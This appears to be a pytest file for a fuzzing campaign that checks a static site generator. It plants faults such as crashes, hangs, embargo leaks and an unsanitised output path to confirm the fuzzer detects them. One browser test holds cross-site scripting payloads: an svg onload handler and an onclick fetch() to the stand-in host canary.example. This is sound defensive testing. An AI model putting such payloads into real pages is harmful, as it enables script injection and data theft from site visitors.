"""A short campaign on today's program; and that a campaign sees what it looks for, shown by breaking the program."""

from __future__ import annotations

import time
from pathlib import Path

import nh3
import pytest

from generator import project
from generator.diagnostics import Span
from generator.media import pictures
from generator.model.record import Publication
from tests.fuzz import campaign, inputs
from tests.fuzz.campaign import GOALS, Campaign, Plan
from tests.fuzz.contest import Edit, Input, notice
from tests.fuzz.words import DAYS, Fate, hidden_characters, hidden_words, rare, word

SEED = 11


@pytest.fixture
def begin(tmp_path):
    """Start a campaign; what a test has broken in the program is broken in its processes too."""
    started: list[Campaign] = []

    def start() -> Campaign:
        started.append(Campaign(tmp_path / "fuzz", SEED, processes=1))
        return started[0]

    yield start
    for each in started:
        each.close()


def given(*edits: Edit, number: int = 1) -> Input:
    return Input(number, "planted", edits)


def counted(run: Campaign) -> dict[str, int]:
    return {goal: run.tally.counts[goal] for goal in GOALS if run.tally.counts[goal]}


@pytest.mark.browser
def test_short_campaign(tmp_path) -> None:
    tally = campaign.run(Plan(SEED, inputs=60, builds=20, books=0), tmp_path / "fuzz")
    assert tally.counts["inputs"] >= 60
    assert tally.counts["built"] == 20
    assert not tally.findings, "\n".join([tally.table(), *(f"{each.name}: {each.text}" for each in tally.findings)])


def test_a_seed_always_makes_the_same_inputs() -> None:
    assert [inputs.make(3, number) for number in range(50)] == [inputs.make(3, number) for number in range(50)]
    assert inputs.make(3, 0) != inputs.make(4, 0)


def test_inputs_are_saved_and_read_again() -> None:
    made = [inputs.make(3, number) for number in range(50)]
    assert [Input.from_json(each.to_json()) for each in made] == made


def test_words_tell_their_fate() -> None:
    told = word(Fate.PUBLIC, 5) + "".join(word(fate, 5) + rare(fate, 5) for fate in Fate if fate is not Fate.PUBLIC)
    between, before, after = (set(hidden_words(told, day)) for day in DAYS)
    assert between == {word(Fate.SECRET, 5)}
    assert before - between == {word(Fate.EMBARGOED, 5)}
    assert after - between == {word(Fate.EXPIRING, 5)}
    assert len(hidden_characters(told, DAYS[0])) == 2
    assert len(hidden_characters(f"\\u{ord(rare(Fate.SECRET, 5)[0]):04x}", DAYS[0])) == 1


# What is broken is seen


def test_an_exception_is_a_traceback(begin, monkeypatch) -> None:
    monkeypatch.setattr(project, "load", lambda *_: 1 / 0)
    run = begin()
    run.read([given()])
    assert counted(run) == {"tracebacks": 1}
    assert "ZeroDivisionError" in run.tally.findings[0].text


def test_a_finding_is_kept_and_repeated(begin, tmp_path, monkeypatch) -> None:
    planted = notice("z1", "裂")
    load = project.load

    def crack(root: Path, *_: object) -> project.Project:
        assert not (root / planted.path).exists()
        return load(root)

    monkeypatch.setattr(project, "load", crack)
    run = begin()
    assert run.read([given(planted), given(number=2)]) == [given(number=2)]
    (kept,) = campaign.keep(run.tally, SEED, tmp_path / "kept")
    assert kept.name == f"{SEED}-1-tracebacks"
    assert planted.path in (kept / "read.txt").read_text("utf-8")
    assert campaign.replay(kept, tmp_path / "again").counts["tracebacks"] == 1


@pytest.mark.parametrize("hang", [lambda *_: time.sleep(60), lambda *_: all(iter(int, 1)) or any(iter(int, 1))])
def test_what_hangs_is_over_time(begin, monkeypatch, hang) -> None:
    monkeypatch.setattr(project, "load", hang)
    monkeypatch.setattr(campaign, "LIMIT", 1)
    monkeypatch.setattr(campaign, "STILL", 1)
    run = begin()
    run.read([given(), given(number=2)])
    assert counted(run) == {"over-time": 2}


def test_a_diagnostic_in_other_words_is_unclear(begin, monkeypatch) -> None:
    load = project.load

    def speak(root: Path, *_: object) -> project.Project:
        loaded = load(root)
        loaded.report.add("invalid-value", Span("content/nowhere.yml"), "Input should be a valid dict")
        return loaded

    monkeypatch.setattr(project, "load", speak)
    run = begin()
    run.read([given()])
    assert counted(run) == {"unclear": 1}
    for fault in ("no such file", "not Chinese", "speaks of Input should"):
        assert fault in run.tally.findings[0].text


@pytest.mark.browser
def test_a_script_that_runs_and_a_foreign_request_are_seen(begin, monkeypatch) -> None:
    monkeypatch.setattr(nh3, "clean", lambda html, **_: html)
    monkeypatch.setattr(campaign, "DAYS", DAYS[:1])
    first, second = word(Fate.PUBLIC, 1), word(Fate.PUBLIC, 2)
    run = begin()
    run.build(
        (
            given(notice("z1", f"<svg onload=\"__canary('{first}')\"></svg> {first}")),
            given(notice("z2", f"<b onclick=\"fetch('https://canary.example/{second}')\">甲</b>"), number=2),
        )
    )
    found = {(each.what, each.given[0].number) for each in run.tally.findings}
    assert found == {("executed", 1), ("foreign", 2)}


@pytest.mark.browser
def test_an_embargo_that_does_not_hold_is_seen(begin, monkeypatch) -> None:
    monkeypatch.setattr(Publication, "is_public", lambda record, on, drafts: not record.draft)
    monkeypatch.setattr(campaign, "DAYS", DAYS[1:2])
    run = begin()
    run.build((given(),))
    assert set(counted(run)) == {"leaked"}
    assert any("search/" in each.text for each in run.tally.findings)
    assert any(rare(Fate.EMBARGOED, inputs.SECRETS)[0] in each.text for each in run.tally.findings)


@pytest.mark.browser
def test_a_picture_that_tells_is_seen(begin, monkeypatch) -> None:
    monkeypatch.setattr(pictures, "encode", lambda measured, rendition, root: measured.path.read_bytes())
    monkeypatch.setattr(campaign, "DAYS", DAYS[:1])
    run = begin()
    run.build((given(),))
    assert set(counted(run)) == {"leaked"}
    for offset in range(3):
        assert any(word(Fate.SECRET, inputs.SECRETS + 100 + offset) in each.text for each in run.tally.findings)
